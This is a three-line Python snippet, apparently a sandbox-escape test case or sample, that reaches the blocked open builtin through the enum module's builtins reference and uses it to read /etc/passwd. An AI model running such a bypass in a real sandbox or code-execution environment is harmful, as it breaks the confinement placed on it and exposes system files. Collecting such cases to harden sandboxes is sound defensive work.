# a blocked builtin reached through an allowed module
import enum
enum.bltns.open("/etc/passwd").read()
